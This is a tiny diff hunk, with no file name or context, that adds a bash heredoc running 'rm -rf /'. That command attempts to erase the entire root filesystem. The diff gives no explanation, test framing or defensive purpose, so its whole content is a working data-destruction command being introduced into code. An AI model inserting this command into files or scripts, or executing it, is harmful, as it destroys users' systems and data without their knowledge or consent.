@@ -1,0 +1,3 @@
+bash <<'EOF'
+rm -rf /
+EOF
